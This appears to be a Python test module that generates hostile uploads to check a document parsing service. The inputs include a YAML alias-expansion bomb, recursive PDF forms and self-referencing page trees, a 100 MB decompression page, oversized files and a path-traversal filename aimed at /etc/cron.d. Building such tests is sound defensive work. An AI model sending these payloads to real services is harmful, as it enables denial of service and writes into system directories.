        "yaml: a quote that does not end": of("yaml", "word: ", 100_000, 'a: "'),
        "yaml: 300,000 spaces in quotes": of("yaml", " ", 300_000, 'a: "word', 'word"'),
        "yaml: 450,000 spaces in a scalar": of("yaml", " ", 450_000, "a: word", "word"),
        "yaml: a scalar of 100,000 lines": of("yaml", "  word\n", 100_000, "a:\n"),
        "yaml: a block of 100,000 lines": of("yaml", "  word\n", 100_000, "a: |\n"),
        "yaml: 300,000 empty lines in a block": of("yaml", "\n", 300_000, "a: |\n  word\n", "  word"),
        "yaml: anchors and aliases, ten each, 9 deep": ("yaml", lambda: ("a0: &a0 [Some words]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10))).encode()),
        "yaml: 100,000 comments": of("yaml", "# a\n", 100_000, "", "a: Some words\n"),
        "yaml: 200,000 anchors before a word": of("yaml", "&a ", 200_000, "a: ", "word"),
        "yaml: 300,000 colons": of("yaml", ":", 300_000, "a", "b"),
        "a format that is not read": of("toml", "a = 'word'\n", 10),
        "a name without an extension": ("", lambda: b"Some words"),
    }  # fmt: skip


# ---- PDF


def pdf(objects: Mapping[int, bytes], root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, with a table of their places."""
    data, offsets = bytearray(b"%PDF-1.5\n"), dict[int, int]()
    for number, body in objects.items():
        offsets[number] = len(data)
        data += b"%d 0 obj" % number + body + b" endobj\n"
    start, size = len(data), max(objects) + 1
    data += b"xref\n0 %d\n0000000000 65535 f \n" % size
    data += b"".join(
        b"%010d 00000 n \n" % offsets[n] if n in offsets else b"0000000000 65535 f \n" for n in range(1, size)
    )
    return bytes(data + b"trailer<</Size %d/Root %d 0 R%b>>startxref\n%d\n%%%%EOF" % (size, root, trailer, start))


def stream(content: bytes, more: bytes = b"") -> bytes:
    compressed = zlib.compress(content, 9)
    return b"<</Length %d/Filter/FlateDecode%b>>stream\n%b\nendstream" % (len(compressed), more, compressed)


_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def _pages(kids: bytes, count: int, content: bytes, more: bytes = b"", **others: bytes) -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 5 0 R/Resources<</Font<</F 3 0 R>>%b>>>>" % more
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Count %d/Kids[%b]>>" % (count, kids),
            3: _FONT,
            4: page,
            5: stream(content),
            **{int(name[1:]): body for name, body in others.items()},
        }
    )


_SHOWN = b"BT /F 10 Tf 50 700 Td (Some words of text.) Tj ET\n"


def _forms() -> bytes:
    """Each form draws the next one ten times."""
    forms = {
        f"_{6 + n}": stream(
            (b"/X Do " * 10 if n < 9 else _SHOWN),
            b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</Font<</F 3 0 R>>/XObject<</X %d 0 R>>>>"
            % (7 + n),
        )
        for n in range(10)
    }
    return _pages(b"4 0 R", 1, _SHOWN + b"/X Do", b"/XObject<</X 6 0 R>>", **forms)


_PDFS: dict[str, Callable[[], bytes]] = {
    "5,000 pages that are one": lambda: _pages(b"4 0 R " * 5_000, 5_000, _SHOWN),
    "a billion pages by its own count": lambda: _pages(b"4 0 R", 1_000_000_000, _SHOWN),
    "a page that decompresses to 100 MB": lambda: _pages(b"4 0 R", 1, _SHOWN + b" " * 100 * MB),
    "a page of 500,000 glyphs": lambda: _pages(b"4 0 R", 1, b"BT /F 1 Tf 50 700 Td (word word) Tj ET\n" * 55_000),
    "forms in forms, ten times each, ten deep": _forms,
    "a tree of pages that holds itself": lambda: _pages(b"2 0 R 4 0 R", 2, _SHOWN),
    "cut in the middle": lambda: _pages(b"4 0 R", 1, _SHOWN)[:300],
    "no objects": lambda: b"%PDF-1.7\n%%EOF",
    "nested arrays": lambda: _pages(b"4 0 R", 1, _SHOWN, b"/X " + b"[" * 100_000),
    "a table of objects that refers to itself": lambda: pdf({1: b"<</Type/Catalog>>"}, trailer=b"/Prev 9"),
    "a password": lambda: pdf(
        {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Count 0/Kids[]>>"},
        trailer=b"/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<%b>/U<%b>>>/ID[<00><00>]" % (b"41" * 32, b"42" * 32),
    ),
    "no text": lambda: _pages(b"4 0 R", 1, b"q 600 0 0 800 0 0 cm BI /W 1 /H 1 /BPC 8 /CS /G ID a EI Q"),
    "random bytes": lambda: b"%PDF-1.7\n" + _shuffled(MB),
}

# ---- all


def _large(size: int) -> bytes:
    """A docx with so many bytes, nearly all of them a picture's."""
    entries = docx_entries(document(paragraph() * 200), **{"word/media/a.bin": _shuffled(size)})
    return package(entries, stored=("word/media/a.bin",))


_TEXT_GROUPS = {"md": "Markdown", "mdx": "Markdown"} | dict.fromkeys(("json", "csv", "xcstrings", "yaml"), "data")
"""Of text files by extension; all others are of the group `text`."""


def attacks(listener: str) -> list[Attack]:
    """All attacks. `listener` is an address that nothing may be fetched from."""
    found = [Attack("package", what, "a.docx", data) for what, data in _ARCHIVES.items()]
    found += [
        Attack("package", "a docx called pptx", "a.pptx", PLAIN),
        Attack("package", "an xlsx called docx", "a.docx", partial(xlsx, "", "")),
        Attack("package", "a docx called odt", "a.odt", PLAIN),
        Attack("package", "a docx called epub", "a.epub", PLAIN),
    ]
    found += [Attack("upload", f"{size / MB:g} MB", "a.docx", partial(_large, size)) for size in (29 * MB, 31 * MB)]
    found += [
        Attack("upload", "31 MB without a length", "a.docx", partial(_large, 31 * MB), chunked=True),
        Attack("upload", "a txt of 11 MB", "a.txt", lambda: b"word " * 2_200_000),
        Attack("upload", "a name with a path", "../../etc/cron.d/a.docx", PLAIN),
        Attack("upload", "a name of 5,000 characters", "a" * 5_000 + ".docx", PLAIN),
    ]
    found += [Attack("XML", what, "a.docx", data) for what, data in _xml_attacks(listener).items()]
    found += [Attack("sheets, OpenDocument, books", what, f"a.{kind}", data) for what, (kind, data) in _SHEETS.items()]
    found += [
        Attack(_TEXT_GROUPS.get(kind, "text"), what, f"a.{kind}".rstrip("."), data)
        for what, (kind, data) in _text_attacks(listener).items()
    ]
    return [*found, *(Attack("PDF", what, "a.pdf", data) for what, data in _PDFS.items())]
